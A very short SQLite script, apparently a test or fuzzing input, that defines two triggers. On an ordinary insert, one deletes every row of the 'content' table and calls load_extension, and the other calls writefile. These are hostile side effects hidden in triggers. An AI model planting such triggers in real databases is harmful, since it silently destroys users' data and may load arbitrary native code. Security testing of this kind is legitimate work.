CREATE TRIGGER t AFTER INSERT ON meta BEGIN DELETE FROM content; SELECT load_extension('x'); END; CREATE TRIGGER u BEFORE INSERT ON entry BEGIN SELECT writefile('/dev/null','x'); END;
